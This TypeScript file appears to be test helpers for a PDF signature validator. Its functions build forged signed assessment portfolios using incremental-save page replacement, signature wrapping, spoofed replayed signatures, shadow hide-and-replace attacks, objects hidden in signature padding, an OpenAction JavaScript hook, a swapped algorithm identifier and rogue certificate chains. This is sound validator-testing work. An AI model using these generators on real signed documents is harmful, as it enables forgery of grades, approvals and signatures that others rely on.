export async function annotationAdded(pdf: Buffer, facts: PortfolioFacts, dict: string, lines: string[], options: { field?: boolean } = {}): Promise<Buffer> {
  const n = nextNumber(pdf);
  const { page, boxes } = facts.declaration;
  const box = boxes.assessor;
  const objects: PdfObject[] = [
    ...(await pageDrawing(pdf, page, 0, undefined, { annots: [n] })),
    { num: n, body: `<< /Type /Annot ${dict} /P ${page} 0 R /Rect ${rect(box)} /F 4 /AP << /N ${n + 1} 0 R >> >>` },
    { num: n + 1, body: appearance(box, paintText(relative(box), lines), n + 2) },
    { num: n + 2, body: HELVETICA },
  ];
  if (options.field) objects.push(await formWithFields(pdf, [n]));
  return appendUpdate(pdf, objects).pdf;
}

/** A new page tree, the same but for page 2, drawn with `content` too. */
async function forgedTree(pdf: Buffer, facts: PortfolioFacts, n: number, content: string, pageSet: Record<string, string> = {}): Promise<PdfObject[]> {
  const [tree, page] = [n, n + 1];
  const kids = (await arrayItems(pdf, facts.pages, "Kids")).map((k) => (k === `${facts.declaration.page} 0 R` ? `${page} 0 R` : k));
  return [
    { num: tree, body: await changedDict(pdf, facts.pages, { Kids: `[${kids.join(" ")}]` }) },
    ...(await pageDrawing(pdf, facts.declaration.page, n + 2, content, { as: page, set: { Parent: `${tree} 0 R`, ...pageSet } })),
  ];
}

/** An update that points the catalog's /Pages at a new page tree whose page 2 shows the forged result. */
export async function pagesReplaced(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const n = nextNumber(pdf);
  return appendUpdate(pdf, [
    { num: facts.root, body: await changedDict(pdf, facts.root, { Pages: `${n} 0 R` }) },
    ...(await forgedTree(pdf, facts, n, paintText(facts.declaration.boxes.assessor, [FORGED], { color: "0.6 0 0" }))),
  ]).pdf;
}

/** An update whose cross-reference section lists every object afresh and has no /Prev. */
export async function freshXref(file: string, facts: PortfolioFacts): Promise<Buffer> {
  const pdf = await readFile(file);
  const offsets = await objectOffsets(file);
  const forged = await forgedFooter(pdf, facts);
  const entries: XrefEntry[] = [];
  const size = nextNumber(pdf);
  for (let num = 1; num < size; num++) entries.push(offsets.has(num) ? { num, offset: offsets.get(num)! } : { num, free: true });
  return appendUpdate(pdf, [{ num: facts.declaration.footer, body: forged }], { prev: null, entries: entries.filter((e) => e.num !== facts.declaration.footer) }).pdf;
}

// --- SWA: signature wrapping ---------------------------------------------------------------

/**
 * Signature wrapping (CCS 2019, as esig/dss's siwa.pdf): the signed bytes after /Contents are
 * moved to the end of the file, a second /ByteRange naming their new place closes the
 * signature dictionary inside the gap, and the gap also holds a cross-reference section
 * written exactly where the moved startxref points, with the forged objects after it.
 */
export async function wrapped(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const sig = signaturesIn(pdf).at(-1)!;
  const [, a, b, c] = sig.byteRange;
  const xrefAt = lastTrailer(pdf).startxref;
  const prev = Number(/\/Prev (\d+)/.exec(pdf.toString("latin1", xrefAt))![1]);
  const moved = pdf.subarray(b);
  const rest = moved.toString("latin1", 0, moved.indexOf(">>\nendobj"));
  const close = (at: number) => Buffer.from(` ${rest.trim()} /ByteRange [0 ${a} ${String(at).padStart(10, "0")} ${c}] >>\nendobj\n`, "latin1");
  const head = Buffer.concat([pdf.subarray(0, b), close(0)]);
  if (head.length > xrefAt) throw new Error("the wrapped dictionary does not fit before the moved startxref");
  const forged = Buffer.concat([Buffer.from(`${facts.declaration.footer} 0 obj\n`, "latin1"), await forgedFooter(pdf, facts), Buffer.from("\nendobj\n", "latin1")]);
  const own = xrefSection(pdf, xrefAt);
  const tableLength = (movedTo: number, forgedAt: number) =>
    `${xrefTable([...own.map((e) => (e.offset !== undefined && e.offset >= b ? { ...e, offset: e.offset - b + movedTo } : e)), { num: facts.declaration.footer, offset: forgedAt }])}trailer\n<< ${trailerText(pdf, prev)} >>\n`;
  // Lay out: head, padding to the moved startxref, the section, the forged object, the moved bytes.
  const sectionLength = tableLength(0, 0).length;
  const forgedAt = xrefAt + sectionLength + 16;
  const movedTo = forgedAt + forged.length + 16;
  const section = Buffer.from(tableLength(movedTo, forgedAt), "latin1");
  const out = Buffer.concat([
    pdf.subarray(0, b), close(movedTo), Buffer.alloc(xrefAt - head.length, " "), section, Buffer.alloc(forgedAt - xrefAt - section.length, " "), forged, Buffer.alloc(movedTo - forgedAt - forged.length, " "), moved,
  ]);
  return out;
}

function trailerText(pdf: Buffer, prev: number): string {
  const t = lastTrailer(pdf);
  return [`/Size ${t.size}`, `/Root ${t.root}`, t.info ? `/Info ${t.info}` : "", t.id ? `/ID ${t.id}` : "", `/Prev ${prev}`].filter(Boolean).join(" ");
}

/** The signature dictionary written again in a later update: same ranges and value, a different /Reason and /M. */
export function signatureRewritten(pdf: Buffer, num: number, reason: string): Buffer {
  const text = pdf.toString("latin1");
  const at = text.lastIndexOf(`\n${num} 0 obj\n`) + `\n${num} 0 obj\n`.length;
  const body = text.slice(at, text.indexOf("\nendobj", at)).replace(/\/Reason \([^)]*\)/, `/Reason ${literal(reason)}`).replace(/\/M \([^)]*\)/, `/M ${pdfDate(new Date(Date.now() + 86_400_000))}`);
  return appendUpdate(pdf, [{ num, body }]).pdf;
}

/** The number of the object whose body holds `offset`. */
export function objectHolding(pdf: Buffer, offset: number): number {
  const head = pdf.toString("latin1", Math.max(0, offset - 4096), offset);
  return Number([...head.matchAll(/(?:^|\n)(\d+) 0 obj\b/g)].at(-1)![1]);
}

/** An update that takes an annotation off a page (the way a reviewer deletes a comment). */
export async function annotationRemoved(pdf: Buffer, page: number, annotation: number): Promise<Buffer> {
  const annots = (await arrayItems(pdf, page, "Annots")).filter((r) => r !== `${annotation} 0 R`);
  return appendUpdate(pdf, [{ num: page, body: await changedDict(pdf, page, { Annots: `[${annots.join(" ")}]` }) }]).pdf;
}

// --- SSA: signature spoofing ----------------------------------------------------------------

/**
 * A new signature field for `role` whose signature dictionary replays another signature's
 * /ByteRange and /Contents, with a /Name and appearance claiming `name`.
 */
export async function replayed(pdf: Buffer, facts: PortfolioFacts, from: SignatureBytes, role: Role, name: string, title: string): Promise<Buffer> {
  const n = nextNumber(pdf);
  const { page, boxes } = facts.declaration;
  const [sig, widget, ap, font] = [n, n + 1, n + 2, n + 3];
  return appendUpdate(pdf, [
    ...(await pageDrawing(pdf, page, 0, undefined, { annots: [widget] })),
    { num: sig, body: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [${from.byteRange.join(" ")}] /Contents <${from.hex}> /M ${pdfDate(new Date())} /Name ${literal(name)} /Reason (${title}'s signature on the portfolio) >>` },
    { num: widget, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (${role}) /V ${sig} 0 R /F 132 /P ${page} 0 R /Rect ${rect(boxes[role])} /AP << /N ${ap} 0 R >> >>` },
    { num: ap, body: appearance(boxes[role], paintText(relative(boxes[role]), signedLines(name, title)), font) },
    { num: font, body: HELVETICA },
    await formWithFields(pdf, [widget]),
  ]).pdf;
}

// --- Shadow attacks ------------------------------------------------------------------------

export const HIDDEN = { assessor: "Assessor's decision: Distinction", iqa: "IQA sampled and agreed: Ruth Mensah" };

/** The portfolio prepared before signing with shadow objects, then signed by the learner. */
export interface ShadowPortfolio {
  signed: Buffer;
  /** Where the copies given no cross-reference entry start: page 2's footer drawing the forged result, page 2's font with a lying ToUnicode, the page tree with a forged page 2, an empty cover. */
  hidden: { footer: number; font: number; pages: number; emptyCover: number };
  /** Objects listed but used by nothing: a catalog whose page tree has a forged page 2, and that tree. */
  catalog: number;
  tree: number;
  /** The cover drawn over hidden text (an XObject), and the annotation covering more. */
  cover: number;
  coverAnnotation: number;
}

/**
 * Shadow attacks, prepared (NDSS 2021): before signing, one incremental update adds to the
 * unsigned PDF a copy of page 2's footer drawing the forged result, a copy of its font with
 * a lying ToUnicode CMap and a copy of the page tree with a forged page 2, none of them in the
 * cross-reference section (so no reader sees them); an unused catalog and page tree that
 * show the forged result; and, on page 2, text covered by a white XObject and a white
 * annotation. The learner then signs it as it looks.
 */
export async function shadowPortfolio(p: Portfolio): Promise<ShadowPortfolio> {
  const pdf = p.unsigned;
  const f = p.facts;
  const { page, boxes, footer, font } = f.declaration;
  const n = nextNumber(pdf);
  // forgedTree writes the tree, the forged page, its stream and a font: n to n + 3.
  const [tree, forgedPage, catalog, cmap, hiding, cover, coverAnnotation, coverAp] = [n, n + 1, n + 4, n + 5, n + 6, n + 8, n + 9, n + 10];
  // What signing writes next: the signature, its widget, its appearance and font, the new form.
  const [learnerWidget, learnerForm] = [n + 12, n + 15];
  const area = (box: Box): Box => [box[0] + 10, box[1] + 8, box[2] - 10, box[1] + 40];
  const white = (box: Box, paint = true) => {
    const [w, h] = [(box[2] - box[0]).toFixed(2), (box[3] - box[1]).toFixed(2)];
    return stream(`/Type /XObject /Subtype /Form /BBox [0 0 ${w} ${h}]`, paint ? `1 1 1 rg 0 0 ${w} ${h} re f` : "");
  };
  const [ax, ay] = area(boxes.assessor);
  const hiddenText = `${paintText(boxes.assessor, [HIDDEN.assessor], { from: 18, color: "0.6 0 0" })} ${paintText(boxes.iqa, [HIDDEN.iqa], { from: 18, color: "0.6 0 0" })} q 1 0 0 1 ${ax.toFixed(2)} ${ay.toFixed(2)} cm /ShCover Do Q`;
  const [pageObject, ...hidingObjects] = await pageDrawing(pdf, page, hiding, hiddenText, { annots: [coverAnnotation] });
  const kids = (await arrayItems(pdf, f.pages, "Kids")).map((k) => (k === `${page} 0 R` ? `${forgedPage} 0 R` : k));
  // Shadow copies: written, but given no cross-reference entry.
  const hidden: PdfObject[] = [
    { num: footer, body: await forgedFooter(pdf, f) },
    { num: font.num, body: await changedDict(pdf, font.num, { ToUnicode: `${cmap} 0 R` }) },
    { num: f.pages, body: await changedDict(pdf, f.pages, { Kids: `[${kids.join(" ")}]` }) },
    { num: cover, body: white(area(boxes.assessor), false) },
  ];
  const objects: PdfObject[] = [
    { num: page, body: (pageObject!.body as string).replace(/\/XObject <<\s*/, `/XObject << /ShCover ${cover} 0 R `) },
    ...hidingObjects,
    { num: cover, body: white(area(boxes.assessor)) },
    { num: coverAnnotation, body: `<< /Type /Annot /Subtype /Square /Rect ${rect(area(boxes.iqa))} /F 4 /C [1 1 1] /IC [1 1 1] /BS << /W 0 >> /P ${page} 0 R /AP << /N ${coverAp} 0 R >> >>` },
    { num: coverAp, body: white(area(boxes.iqa)) },
    ...(await forgedTree(pdf, f, tree, paintText(boxes.assessor, [FORGED], { color: "0.6 0 0" }), { Annots: `[${learnerWidget} 0 R]` })),
    { num: catalog, body: await changedDict(pdf, f.root, { Pages: `${tree} 0 R`, AcroForm: `${learnerForm} 0 R` }) },
    { num: cmap, body: await lyingCMap(pdf, f) },
  ];
  // The cover is written twice: the empty copy first, so the white one is the copy listed.
  const prepared = appendUpdate(pdf, [...hidden, ...objects], { unlisted: [footer, font.num, f.pages] });
  const at = (num: number) => prepared.written.find((w) => w.num === num)!.offset;
  const signed = await forgerSigns(prepared.pdf, "learner", p.signers.learner.identity);
  const text = signed.toString("latin1", prepared.pdf.length);
  if (!new RegExp(`${learnerWidget} 0 obj\\s*<<\\s*/Type /Annot /Subtype /Widget /FT /Sig /T \\(learner\\)`).test(text) || !new RegExp(`${learnerForm} 0 obj\\s*<<[^\\n]*/Fields \\[${learnerWidget} 0 R\\]`).test(text)) {
    throw new Error("signing numbered its objects otherwise than the shadow catalog expects");
  }
  return { signed, hidden: { footer: at(footer), font: at(font.num), pages: at(f.pages), emptyCover: at(cover) }, catalog, tree, cover, coverAnnotation };
}

/**
 * Shadow hide-and-replace through an unused revision (NDSS 2021): before signing, the
 * unsigned PDF gains a copy of page 2's footer drawing the forged result, given no entry; a
 * revision whose cross-reference section lists only that copy; and a revision after it whose
 * /Prev skips it, so no reader uses it. The learner signs. Returns the signed file and where
 * the unused section starts.
 */
export async function unusedRevisionPortfolio(p: Portfolio): Promise<{ signed: Buffer; unusedSection: number }> {
  const { footer } = p.facts.declaration;
  const hidden = appendUpdate(p.unsigned, [{ num: footer, body: await forgedFooter(p.unsigned, p.facts) }], { unlisted: [footer] });
  const unused = appendUpdate(hidden.pdf, [], { entries: [{ num: footer, offset: hidden.written[0]!.offset }] });
  const skipping = appendUpdate(unused.pdf, [], { prev: hidden.xrefAt });
  return { signed: await forgerSigns(skipping.pdf, "learner", p.signers.learner.identity), unusedSection: unused.xrefAt };
}

/** An xref-only update whose /Prev is the unused section, re-listing the learner's revision as it is. */
export function prevToUnusedSection(signed: Buffer, unusedSection: number): Buffer {
  const learnerRevision = xrefSection(signed, lastTrailer(signed).startxref).filter((e) => e.num !== 0);
  return appendUpdate(signed, [], { prev: unusedSection, entries: learnerRevision }).pdf;
}

/**
 * The portfolio prepared before signing with a text field "grade" in the assessor's box whose
 * value is the forged result but whose appearance is blank, then signed by the learner.
 */
export async function textFieldPortfolio(p: Portfolio): Promise<{ signed: Buffer; form: number; field: number }> {
  const pdf = p.unsigned;
  const { page, boxes } = p.facts.declaration;
  const n = nextNumber(pdf);
  const [form, field, blank, helv] = [n, n + 1, n + 2, n + 3];
  const box = fieldBox(boxes.assessor);
  const prepared = appendUpdate(pdf, [
    ...(await pageDrawing(pdf, page, 0, undefined, { annots: [field] })),
    { num: form, body: `<< /Fields [${field} 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv ${helv} 0 R >> >> >>` },
    { num: field, body: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (grade) /V ${literal(FORGED)} /DA (/Helv 11 Tf 0.6 0 0 rg) /F 4 /P ${page} 0 R /Rect ${rect(box)} /MK << >> /AP << /N ${blank} 0 R >> >>` },
    { num: blank, body: stream(`/Type /XObject /Subtype /Form /BBox [0 0 ${(box[2] - box[0]).toFixed(2)} ${(box[3] - box[1]).toFixed(2)}]`, "") },
    { num: helv, body: HELVETICA.replace("/Type /Font", "/Type /Font /Name /Helv") },
    { num: p.facts.root, body: await changedDict(pdf, p.facts.root, { AcroForm: `${form} 0 R` }) },
  ]);
  return { signed: await forgerSigns(prepared.pdf, "learner", p.signers.learner.identity), form, field };
}

export const fieldBox = (box: Box): Box => [box[0] + 10, box[1] + 8, box[2] - 10, box[1] + 34];

/** The text field's value drawn into a new appearance stream, as form filling does. */
export async function fieldFilled(signed: Buffer, facts: PortfolioFacts, field: number): Promise<Buffer> {
  const n = nextNumber(signed);
  const box = fieldBox(facts.declaration.boxes.assessor);
  return appendUpdate(signed, [
    { num: field, body: await changedDict(signed, field, { AP: `<< /N ${n} 0 R >>` }) },
    { num: n, body: appearance(box, `/Tx BMC ${paintText(relative(box), [FORGED], { size: 11, from: 9, color: "0.6 0 0" }).replace("1 0 0 1 14", "1 0 0 1 2")} EMC`, n + 1) },
    { num: n + 1, body: HELVETICA },
  ]).pdf;
}

// --- What the issue lists as accepted ------------------------------------------------------

/**
 * A new catalog, made the trailer's /Root, with a page tree whose page 2 shows the forged
 * result, and a /DSS whose arrays reach the new catalog and the page tree: everything new is
 * "reachable from the validation data".
 */
export async function catalogWithDss(pdf: Buffer, facts: PortfolioFacts, certificate: Uint8Array): Promise<Buffer> {
  const n = nextNumber(pdf);
  const [catalog, cert, tree] = [n, n + 1, n + 2];
  const dss = `<< /Certs [${cert} 0 R] /CRLs [${catalog} 0 R] /OCSPs [${tree} 0 R] >>`;
  return appendUpdate(pdf, [
    { num: catalog, body: await changedDict(pdf, facts.root, { Pages: `${tree} 0 R`, DSS: dss }) },
    { num: cert, body: stream("", Buffer.from(certificate)) },
    ...(await forgedTree(pdf, facts, tree, paintText(facts.declaration.boxes.assessor, [FORGED], { color: "0.6 0 0" }))),
  ], { trailer: { Root: `${catalog} 0 R` } }).pdf;
}

/** An update that adds JavaScript run when the document opens, to the catalog. */
export async function openActionAdded(pdf: Buffer, facts: PortfolioFacts, script: string): Promise<Buffer> {
  return appendUpdate(pdf, [{ num: facts.root, body: await changedDict(pdf, facts.root, { OpenAction: `<< /S /JavaScript /JS ${literal(script)} >>` }) }]).pdf;
}

/** An xref entry for page 2's footer pointing inside the zero padding of the last signature's /Contents, where the forged stream is written. */
export async function objectInSignatureGap(pdf: Buffer, facts: PortfolioFacts): Promise<Buffer> {
  const sig = signaturesIn(pdf).at(-1)!;
  const out = Buffer.from(pdf);
  const object = Buffer.concat([Buffer.from(`${facts.declaration.footer} 0 obj\n`, "latin1"), await forgedFooter(pdf, facts), Buffer.from("\nendobj\n", "latin1")]);
  const at = sig.contentsEnd - 2 - object.length - 64;
  if (!/^0+$/.test(out.toString("latin1", at - 64, sig.contentsEnd - 1))) throw new Error("the signature's padding is too short for the object");
  object.copy(out, at);
  return appendUpdate(out, [], { entries: [{ num: facts.declaration.footer, offset: at }] }).pdf;
}

// --- Annotations a reviewer adds, the way Acrobat writes them ------------------------------

/** A sticky note and its popup on the reflection page, as Acrobat writes them. */
export async function stickyNote(pdf: Buffer, facts: PortfolioFacts, text: string): Promise<Buffer> {
  const n = nextNumber(pdf);
  const { page, box } = facts.reflection;
  const [note, popup, icon] = [n, n + 1, n + 2];
  const at: Box = [box[2] + 6, box[1] - 6, box[2] + 26, box[1] + 14];
  const stamp = pdfDate(new Date());
  return appendUpdate(pdf, [
    ...(await pageDrawing(pdf, page, 0, undefined, { annots: [note, popup] })),
    { num: note, body: `<< /Type /Annot /Subtype /Text /Rect ${rect(at)} /Contents ${literal(text)} /T (Daniel Okafor) /M ${stamp} /CreationDate ${stamp} /NM (a3f1c2d4-note) /F 28 /C [1 0.82 0] /Name /Comment /Open false /P ${page} 0 R /Popup ${popup} 0 R /AP << /N ${icon} 0 R >> >>` },
    { num: popup, body: `<< /Type /Annot /Subtype /Popup /Rect ${rect([at[2] + 4, at[1] - 80, at[2] + 184, at[1]])} /Parent ${note} 0 R /Open false /F 28 /P ${page} 0 R >>` },
    { num: icon, body: stream("/Type /XObject /Subtype /Form /BBox [0 0 20 20]", "1 0.82 0 rg 0 0 0 RG 1 1 18 18 re B 0 g 4 6 m 16 6 l 16 15 l 4 15 l h S") },
  ]).pdf;
}

/** A highlight over the reflection line and its popup, as Acrobat writes them. */
export async function highlight(pdf: Buffer, facts: PortfolioFacts, comment: string): Promise<Buffer> {
  const n = nextNumber(pdf);
  const { page, box } = facts.reflection;
  const [mark, popup, ap] = [n, n + 1, n + 2];
  const [x1, y1, x2, y2] = box;
  const stamp = pdfDate(new Date());
  return appendUpdate(pdf, [
    ...(await pageDrawing(pdf, page, 0, undefined, { annots: [mark, popup] })),
    { num: mark, body: `<< /Type /Annot /Subtype /Highlight /Rect ${rect(box)} /QuadPoints [${[x1, y2, x2, y2, x1, y1, x2, y1].map((v) => v.toFixed(2)).join(" ")}] /C [1 1 0] /CA 1 /Contents ${literal(comment)} /T (Daniel Okafor) /M ${stamp} /CreationDate ${stamp} /NM (a3f1c2d4-highlight) /F 4 /P ${page} 0 R /Popup ${popup} 0 R /AP << /N ${ap} 0 R >> >>` },
    { num: popup, body: `<< /Type /Annot /Subtype /Popup /Rect ${rect([x2 + 4, y1 - 80, x2 + 184, y1])} /Parent ${mark} 0 R /Open false /F 28 /P ${page} 0 R >>` },
    { num: ap, body: stream(`/Type /XObject /Subtype /Form /BBox ${rect(box)} /Resources << /ExtGState << /G0 << /BM /Multiply /CA 1 /ca 1 >> >> >>`, `q /G0 gs 1 1 0 rg ${x1.toFixed(2)} ${y1.toFixed(2)} ${(x2 - x1).toFixed(2)} ${(y2 - y1).toFixed(2)} re f Q`) },
  ]).pdf;
}

// --- Certificates, made with openssl ----------------------------------------------------------

export interface Authorities {
  /** The college's root, to pass with --trust. */
  root: string;
  /** PKCS#12 files for "Daniel Okafor, Assessor": through a valid intermediate; issued by the learner's own (end-entity) certificate; through an expired intermediate; valid only in January 2020. */
  keys: { viaIntermediate: string; viaLearner: string; viaExpiredIntermediate: string; january2020: string };
}

const OPENSSL_CONFIG = `[ ca ]
default_ca = local
[ local ]
dir = .
database = ./index.txt
new_certs_dir = .
serial = ./serial
default_md = sha256
policy = anything
unique_subject = no
preserve = yes
email_in_dn = no
[ anything ]
commonName = supplied
title = optional
[ ca_cert ]
basicConstraints = critical, CA:TRUE
keyUsage = critical, keyCertSign, cRLSign
subjectKeyIdentifier = hash
[ signing_cert ]
basicConstraints = critical, CA:FALSE
keyUsage = critical, digitalSignature, nonRepudiation
subjectKeyIdentifier = hash
authorityKeyIdentifier = keyid
`;

/** Certificate chains for the assessor made with openssl, and packed with `openssl pkcs12 -export`. */
export async function certificateAuthorities(dir: string, learner: Signer): Promise<Authorities> {
  const passphrase = learner.passphrase;
  await writeFile(join(dir, "openssl.cnf"), OPENSSL_CONFIG);
  await writeFile(join(dir, "index.txt"), "");
  await writeFile(join(dir, "serial"), "1000\n");
  const openssl = async (...args: string[]) => {
    const result = await run("openssl", args, { cwd: dir });
    if (result.status !== 0) throw new Error(`openssl ${args.slice(0, 2).join(" ")}: ${result.stderr}`);
  };
  const day = 86_400_000;
  const stamp = (date: Date) => `${date.toISOString().replace(/[-:T]/g, "").slice(2, 14)}Z`;
  const now = new Date();
  const request = (name: string, subject: string) => openssl("req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", `${name}.key`, "-out", `${name}.csr`, "-subj", subject);
  const issue = (name: string, issuer: string | "self", extensions: string, from: Date, to: Date) =>
    openssl("ca", "-batch", "-config", "openssl.cnf", ...(issuer === "self" ? ["-selfsign", "-keyfile", `${name}.key`] : ["-cert", `${issuer}.pem`, "-keyfile", `${issuer}.key`]), "-in", `${name}.csr`, "-out", `${name}.pem`, "-extensions", extensions, "-startdate", stamp(from), "-enddate", stamp(to), "-notext");
  const pack = async (name: string, chain: string[]) => {
    await writeFile(join(dir, `${name}-chain.pem`), (await Promise.all(chain.map((c) => readFile(join(dir, `${c}.pem`), "utf8")))).join(""));
    await openssl("pkcs12", "-export", "-inkey", `${name}.key`, "-in", `${name}.pem`, "-certfile", `${name}-chain.pem`, "-name", "Daniel Okafor (Assessor)", "-passout", `pass:${passphrase}`, "-out", `${name}.p12`);
    return join(dir, `${name}.p12`);
  };
  const since2019 = new Date("2019-01-01T00:00:00Z");
  await request("root", "/CN=Northgate College Root CA");
  await issue("root", "self", "ca_cert", since2019, new Date("2039-01-01T00:00:00Z"));
  await request("intermediate", "/CN=Northgate College Assessors CA");
  await issue("intermediate", "root", "ca_cert", since2019, new Date("2039-01-01T00:00:00Z"));
  await request("expired", "/CN=Northgate College Assessors CA 2019");
  await issue("expired", "root", "ca_cert", since2019, new Date("2021-01-01T00:00:00Z"));
  // The learner's key, read out of her .p12, issues a certificate it has no right to issue.
  await openssl("pkcs12", "-in", learner.p12, "-nocerts", "-nodes", "-passin", `pass:${passphrase}`, "-out", "learner.key");
  await writeFile(join(dir, "learner.pem"), await readFile(learner.pem));
  const subject = "/CN=Daniel Okafor/title=Assessor";
  for (const name of ["via-intermediate", "via-learner", "via-expired", "january-2020"]) await request(name, subject);
  await issue("via-intermediate", "intermediate", "signing_cert", new Date(now.getTime() - day), new Date(now.getTime() + 365 * day));
  await issue("via-learner", "learner", "signing_cert", new Date(now.getTime() - day), new Date(now.getTime() + 365 * day));
  await issue("via-expired", "expired", "signing_cert", new Date(now.getTime() - day), new Date(now.getTime() + 365 * day));
  await issue("january-2020", "intermediate", "signing_cert", new Date("2020-01-01T00:00:00Z"), new Date("2020-02-01T00:00:00Z"));
  return {
    root: join(dir, "root.pem"),
    keys: {
      viaIntermediate: await pack("via-intermediate", ["intermediate"]),
      viaLearner: await pack("via-learner", ["learner"]),
      viaExpiredIntermediate: await pack("via-expired", ["expired"]),
      january2020: await pack("january-2020", ["intermediate"]),
    },
  };
}

/** An identity read from a .p12 as the signing code reads it. */
export async function identityOf(p12: string, passphrase: string, name?: string): Promise<SigningIdentity> {
  const identity = readIdentity(await readFile(p12), passphrase, p12);
  return name ? { ...identity, name } : identity;
}

/**
 * The first signature's SignerInfo made to claim sha1WithRSAEncryption while the signature is
 * RSA with SHA-256. The SignerInfo comes after the certificates, so the last PKCS#1 algorithm
 * identifier in the CMS is its signatureAlgorithm; /Contents is outside the signed bytes, so
 * nothing else changes.
 */
export function signatureAlgorithmSwapped(pdf: Buffer): Buffer {
  const sig = signaturesIn(pdf)[0]!;
  const pkcs1 = "2a864886f70d0101";
  const at = sig.hex.toLowerCase().lastIndexOf(pkcs1);
  if (at < 0) throw new Error("no PKCS#1 algorithm identifier in the signature");
  const out = Buffer.from(pdf);
  out.write("05", sig.contentsAt + 1 + at + pkcs1.length, "latin1");
  return out;
}
